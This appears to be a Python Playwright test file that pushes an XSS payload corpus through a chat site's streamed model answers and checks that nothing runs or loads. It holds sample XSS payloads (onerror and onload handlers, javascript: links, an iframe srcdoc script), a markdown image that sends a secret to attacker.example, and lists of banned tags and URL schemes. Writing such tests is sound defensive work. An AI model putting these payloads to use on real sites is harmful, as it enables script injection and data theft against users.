"""XSS through the real renderer, in Chromium: the payload corpus as model output, whole and split.

The demo model answers `/echo <payloads>`, so every payload of tests/data/xss_payloads.txt
(plus a few that call our trap by name) arrives as a real answer: streamed into the page by
stream.js, rendered block by block while it streams (the server's blocks and the page's own
preview of the open tail), then ended with the server's rendered HTML. In the browser no script
may run, no `on*` attribute or script-capable URL and no image, frame or embed may reach an
answer — checked on every element as it is added mid-stream, and on the whole page after each
answer ends; benign markdown still renders, and an image in an answer makes no request.
"""

from __future__ import annotations

import random
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Request, Route, expect

from tests.browser.browsing import DESKTOP, PASSWORD, unique_name
from tests.servers import running_chatsite, signup

pytestmark = pytest.mark.browser

CORPUS = Path(__file__).resolve().parent.parent / "data" / "xss_payloads.txt"
PER_PROMPT = 12  # payloads per answer: the corpus in ~29 answers per run, not ~340
PROMPTS_PER_PAGE = 15  # a conversation (page) per 15 answers keeps each DOM small
SERVER_ENV = {"CHAT_RATE_LIMIT": "10000/minute", "CHAT_DAILY_TOKENS": "0"}

# Payloads that call the trap by name, so a bypass of the overridden alert is seen too.
TRAP_PAYLOADS = [
    "<img src=x onerror=__xss('img')>",
    "<svg onload=__xss('svg')></svg>",
    "<details open ontoggle=__xss('details')>",
    "[click](javascript:__xss('link'))",
    "![pic](javascript:__xss('image'))",
    "<a href=\"javascript:__xss('raw-a')\">x</a>",
    "<iframe srcdoc=\"<script>parent.__xss('srcdoc')</script>\"></iframe>",
    "```html\n<script>__xss('fence')</script>\n```\n<script>__xss('after-fence')</script>",
]

# Installed before any page script (init scripts are not subject to the page's CSP).
TRAP = """
window.__xssHits = [];
window.__xss = (what) => window.__xssHits.push("__xss:" + String(what));
for (const name of ["alert", "confirm", "prompt", "print"]) {
  window[name] = (what) => window.__xssHits.push(name + ":" + String(what).slice(0, 80));
}
document.addEventListener("securitypolicyviolation", (event) => {
  window.__xssHits.push("csp:" + event.violatedDirective + " " + event.blockedURI);
});
"""

# What one element in an answer (or a user's bubble) may not be or carry: pushed to `found`.
CHECK_ELEMENT = r"""
(el, user, found) => {
  const urlAttrs = ["href", "src", "action", "formaction", "xlink:href", "data", "poster",
                    "background", "srcdoc", "srcset", "ping", "codebase", "cite"];
  const banned = new Set(["IMG", "IFRAME", "OBJECT", "EMBED", "SCRIPT", "STYLE", "FORM",
    "INPUT", "BUTTON", "SVG", "MATH", "LINK", "META", "BASE", "VIDEO", "AUDIO", "SOURCE",
    "FRAME", "FRAMESET", "PICTURE", "TEXTAREA", "SELECT", "DETAILS", "TEMPLATE"]);
  const tag = el.tagName.toUpperCase();
  // stream.js adds a copy button to each code block (the sanitiser allows no buttons).
  const ours = ["type", "class", "data-action", "aria-label"];
  if (el.matches('button.copy-code[data-action="copy-code"]')
      && [...el.attributes].every((a) => ours.includes(a.name))) return;
  if (user) found.push("element in a user bubble: " + tag);
  if (banned.has(tag)) found.push("element " + tag + ": " + el.outerHTML.slice(0, 120));
  for (const attr of el.attributes) {
    const name = attr.name.toLowerCase();
    const value = attr.value.replace(/[\s\u0000-\u001f]/g, "").toLowerCase();
    if (name.startsWith("on")) found.push("handler " + name + " on " + tag);
    if (name === "style") found.push("style on " + tag);
    if (urlAttrs.includes(name) && /^(javascript|data|vbscript|livescript):/.test(value)) {
      found.push(name + "=" + attr.value.slice(0, 80));
    }
  }
  // An <a> without href is inert (nh3 drops a URL it cannot parse); with one, it must
  // be http(s) or mailto and open with rel=noopener.
  if (tag === "A" && el.hasAttribute("href")) {
    if (!/^(https?:|mailto:)/i.test(el.getAttribute("href"))) {
      found.push("link to " + el.getAttribute("href"));
    }
    const rel = el.getAttribute("rel") || "";
    if (!/\bnoopener\b/.test(rel)) found.push("no rel: " + el.outerHTML);
  }
}
"""

# Everything in the answers (and the user's bubbles) that could run or load something.
SCAN_ANSWERS = f"""
() => {{
  const check = {CHECK_ELEMENT};
  const found = [];
  for (const body of document.querySelectorAll("#messages article.msg .body")) {{
    const user = body.closest("article").classList.contains("msg-user");
    for (const el of body.querySelectorAll("*")) check(el, user, found);
  }}
  return found;
}}
"""

# Mid-stream (issue 15: answers render block by block while they stream): every element the
# page adds inside an answer's body is checked as it is added, before the answer's `done`,
# since it may be gone (replaced by the next block) when the answer ends.
MID_STREAM = f"""
window.__midStream = {{ found: [], elements: 0 }};
document.addEventListener("DOMContentLoaded", () => {{
  const messages = document.getElementById("messages");
  if (!messages) return;
  const check = {CHECK_ELEMENT};
  new MutationObserver((records) => {{
    for (const record of records) {{
      const target = record.target;
      if (target.nodeType !== 1 || !target.closest(".msg-assistant .body")) continue;
      for (const node of record.addedNodes) {{
        if (node.nodeType !== 1) continue;
        for (const el of [node, ...node.querySelectorAll("*")]) {{
          check(el, false, window.__midStream.found);
          window.__midStream.elements += 1;
        }}
      }}
    }}
  }}).observe(messages, {{ childList: true, subtree: true }});
}});
"""


def corpus() -> list[str]:
    """The payloads: records separated by a line `%%%`; the text before the first is a comment."""
    records = CORPUS.read_text(encoding="utf-8").split("\n%%%\n")[1:]
    payloads = [record.strip("\n") for record in records]
    return [p for p in payloads if p.strip()] + TRAP_PAYLOADS


def batches(payloads: list[str], size: int) -> list[str]:
    """`/echo` prompts of `size` payloads each, kept apart by blank lines and a rule."""
    return [
        "/echo " + "\n\n---\n\n".join(payloads[i : i + size]) for i in range(0, len(payloads), size)
    ]


class Watch:
    """What the browser did that it should not have: dialogs, requests off our origin."""

    def __init__(self, base: str) -> None:
        self.base = base
        self.dialogs: list[str] = []
        self.foreign_requests: list[str] = []

    def attach(self, context: BrowserContext) -> None:
        context.route("**/*", self.route)

    def route(self, route: Route, request: Request) -> None:
        if request.url.startswith(self.base) or request.url.startswith("ws://"):
            route.continue_()
        else:
            self.foreign_requests.append(request.url)
            route.abort()

    def page(self, context: BrowserContext) -> Page:
        page = context.new_page()
        page.on("dialog", self.on_dialog)
        return page

    def on_dialog(self, dialog: Any) -> None:
        self.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()


@pytest.fixture
def session_for() -> Iterator[Any]:
    """Sign a new user up through the real form; return their session cookie's value."""
    clients = []

    def make(base: str) -> str:
        client = signup(base, unique_name("xss"))
        clients.append(client)
        return str(client.cookies["sessionid"])

    yield make
    for client in clients:
        client.close()


def ask(page: Page, text: str, count: int) -> None:
    """Send a prompt through the page's own form and wait for its answer to finish."""
    page.locator("#prompt").fill(text)
    page.locator("#prompt").press("Enter")
    answer = page.locator("article.msg-assistant").nth(count - 1)
    expect(answer).to_have_attribute("data-status", re.compile("complete|failed|stopped"))
    expect(answer).to_have_attribute("data-status", "complete")


def run_corpus(browser: Browser, base: str, session: str, prompts: list[str], **ctx: Any) -> None:
    """Every prompt answered in real pages (a new one every PROMPTS_PER_PAGE), each scanned."""
    watch = Watch(base)
    context = browser.new_context(base_url=base, **{**DESKTOP, **ctx})
    context.add_init_script(TRAP)
    context.add_init_script(MID_STREAM)
    context.add_cookies([{"name": "sessionid", "value": session, "url": base}])
    watch.attach(context)
    try:
        for start in range(0, len(prompts), PROMPTS_PER_PAGE):
            page = watch.page(context)
            page.goto("/")
            expect(page.locator("#connection")).to_have_attribute("data-state", "connected")
            chunk = prompts[start : start + PROMPTS_PER_PAGE]
            for count, text in enumerate(chunk, 1):
                ask(page, text, count)
            expect(page.locator("article.msg-assistant")).to_have_count(len(chunk))
            found = page.evaluate(SCAN_ANSWERS)
            assert found == [], "\n".join(found)
            mid_stream = page.evaluate("window.__midStream")
            assert mid_stream["found"] == [], "\n".join(mid_stream["found"])
            assert mid_stream["elements"] > 0  # the answers did render while they streamed
            assert page.evaluate("window.__xssHits") == []
            page.close()
        assert watch.dialogs == []
        assert watch.foreign_requests == []
    finally:
        context.close()


def test_the_payload_corpus_runs_nothing_when_answers_arrive_in_big_chunks(
    browser: Browser, session_for: Any
) -> None:
    # Coalescing for 250 ms: each answer arrives as its first token plus one or two chunks.
    # The page's CSP is switched off here, so this run shows the sanitiser alone holds: a
    # handler that slipped through would run and land in the trap.
    with running_chatsite(CHAT_COALESCE_MS="250", **SERVER_ENV) as base:
        run_corpus(browser, base, session_for(base), batches(corpus(), PER_PROMPT), bypass_csp=True)


def test_the_payload_corpus_runs_nothing_when_split_into_small_chunks_under_the_csp(
    browser: Browser, session_for: Any
) -> None:
    # A frame per token (CHAT_COALESCE_MS=0), the corpus shuffled into other neighbourhoods,
    # and a random run of letters before each payload so the demo's 12-character token
    # boundaries fall at other places inside it. The real CSP is on: a violation is a failure.
    rng = random.Random(20251129)
    payloads = corpus()
    rng.shuffle(payloads)
    shifted = ["x" * rng.randint(0, 11) + p for p in payloads]
    with running_chatsite(CHAT_COALESCE_MS="0", **SERVER_ENV) as base:
        run_corpus(browser, base, session_for(base), batches(shifted, PER_PROMPT))


def test_benign_markdown_renders_and_an_image_fetches_nothing(
    browser: Browser, session_for: Any
) -> None:
    with running_chatsite(**SERVER_ENV) as base:
        watch = Watch(base)
        context = browser.new_context(base_url=base, **DESKTOP)
        context.add_init_script(TRAP)
        context.add_cookies([{"name": "sessionid", "value": session_for(base), "url": base}])
        watch.attach(context)
        page = watch.page(context)
        page.goto("/")
        expect(page.locator("#connection")).to_have_attribute("data-state", "connected")
        ask(page, "hello", 1)  # the demo's friendly answer: a heading, a list, a code block
        first = page.locator("article.msg-assistant").nth(0)
        expect(first.locator(".body ul > li")).to_have_count(3)
        expect(first.locator(".body pre code")).to_contain_text("def greet")
        ask(page, "/echo See [the docs](https://example.com/docs) and *this*.", 2)
        link = page.locator("article.msg-assistant").nth(1).locator(".body a")
        expect(link).to_have_attribute("href", "https://example.com/docs")
        expect(link).to_have_attribute("rel", re.compile(r"\bnoopener\b"))
        expect(page.locator("article.msg-assistant").nth(1).locator(".body em")).to_have_text(
            "this"
        )
        # An image would load by itself and carry the secret in its URL: none is made.
        ask(page, "/echo ![x](https://attacker.example/?q=secret) and the rest", 3)
        page.wait_for_load_state("networkidle")
        assert page.evaluate(SCAN_ANSWERS) == []
        assert not [url for url in watch.foreign_requests if "attacker.example" in url]
        assert watch.foreign_requests == []
        assert page.evaluate("window.__xssHits") == []
        context.close()


def test_the_page_sends_a_strict_csp_the_usual_headers_and_an_httponly_session_cookie(
    browser: Browser,
) -> None:
    with running_chatsite(**SERVER_ENV) as base:
        username = unique_name("hdr")
        signup(base, username).close()
        context = browser.new_context(base_url=base, **DESKTOP)
        page = context.new_page()
        # A real login through the form, so the cookie is the one the server set.
        page.goto("/accounts/login/")
        page.locator("input[name=username]").fill(username)
        page.locator("input[name=password]").fill(PASSWORD)
        with page.expect_navigation():
            page.locator("input[name=password]").press("Enter")
        cookie = next(c for c in context.cookies() if c["name"] == "sessionid")
        assert cookie["httpOnly"] is True
        assert cookie["sameSite"] == "Lax"
        response = page.goto("/")
        assert response is not None and response.status == 200
        headers = response.all_headers()
        csp = {
            part.split()[0]: part.split()[1:]
            for part in headers["content-security-policy"].split(";")
            if part.strip()
        }
        assert csp["script-src"] == ["'self'"]  # no 'unsafe-inline', no 'unsafe-eval'
        assert csp["object-src"] == ["'none'"]
        assert csp["base-uri"] == ["'none'"]
        assert csp["frame-ancestors"] == ["'none'"]
        assert all(src in ("'self'", "data:") for src in csp["img-src"])  # no remote images
        assert "'unsafe-inline'" not in csp.get("style-src", [])
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "same-origin"
        assert headers["x-frame-options"] == "DENY"
        assert headers["cross-origin-opener-policy"] == "same-origin"
        # htmx and stream.js work under that CSP: the socket connects, nothing was blocked.
        violations: list[str] = []
        page.on(
            "console",
            lambda m: violations.append(m.text) if "Content Security" in m.text else None,
        )
        page.reload()
        expect(page.locator("#connection")).to_have_attribute("data-state", "connected")
        assert violations == []
        context.close()
